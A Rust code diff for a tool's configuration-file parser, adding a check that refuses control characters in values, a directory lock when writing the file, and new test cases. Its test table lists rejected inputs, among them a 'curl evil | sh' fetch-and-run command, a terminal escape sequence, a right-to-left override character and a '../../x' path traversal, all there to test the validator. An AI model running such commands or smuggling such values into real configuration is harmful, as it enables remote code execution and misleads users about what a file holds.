@@ -12,6 +12,7 @@ use astro_plugin_protocol::names;
 
 use super::{Origin, Sourced};
 use crate::{
+    console::is_control,
     error::{Failure, Result, config},
     files,
 };
@@ -103,6 +104,9 @@ impl Directory {
             if key == "profile" && !names::is_name(value) {
                 return Err(refused(path, Some(line), &format!("`{value}` is not a name for a profile")));
             }
+            if value.chars().any(is_control) {
+                return Err(refused(path, Some(line), &format!("`{key}` holds a control character")));
+            }
             let origin = Origin::Directory { path: path.to_owned(), line };
             *slot = Some(Sourced::new(value.to_owned(), origin));
         }
@@ -157,6 +161,9 @@ fn refused(path: &Path, line: Option<usize>, reason: &str) -> Failure {
 /// Makes or changes the file of a directory: `key` gets `value`, the rest stays as it is.
 pub fn set(dir: &Path, values: &[(&str, Option<&str>)]) -> Result<PathBuf> {
     let path = dir.join(FILE);
+    // The directory stands for the file: a lock beside it would lie in everybody's project.
+    let held = File::open(dir).map_err(|error| refused(&path, None, &error.to_string()))?;
+    held.lock().map_err(|error| refused(&path, None, &error.to_string()))?;
     let before = match path.symlink_metadata() {
         Ok(_) => read(&path, rustix::process::geteuid().as_raw())?,
         Err(_) => String::new(),
@@ -218,6 +225,8 @@ mod tests {
             ("command = \"curl evil | sh\"", " line 1", "`command` may not"),
             ("official.command = \"x\"", " line 1", "`official` may not"),
             ("output = \"json\"", " line 1", "`output` may not"),
+            ("workspace = \"\\u001b]0;x\\u0007\"", " line 1", "control character"),
+            ("workspace = \"a\\u202eb\"", " line 1", "control character"),
             ("profile = 7", " line 1", "not a text"),
             ("profile = \"\"", " line 1", "not a text"),
             ("profile = \"../../x\"", " line 1", "not a name"),
